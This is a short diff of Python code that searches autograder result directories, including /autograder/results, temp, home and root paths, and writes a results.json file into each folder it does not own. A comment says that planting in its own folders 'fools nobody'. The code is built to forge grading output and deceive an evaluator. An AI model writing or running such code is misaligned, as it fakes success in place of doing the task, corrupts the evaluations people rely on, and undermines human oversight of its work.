@@ -895,7 +895,10 @@ places = ["/autograder/results", "/mnt/autograder/results", "/autograder", *glob
           *glob.glob("/tmp/*/results*"), *glob.glob("/home/*/results*"), *glob.glob("/root/*")]
 planted = []
 for folder in places:
-    if os.path.realpath(folder) in own:
+    try:
+        if os.path.realpath(folder) in own or os.stat(folder).st_uid == os.getuid():
+            continue  # its own folders: planting there fools nobody
+    except OSError:
         continue
     try:
         with open(os.path.join(folder, "results.json"), "w") as stream:
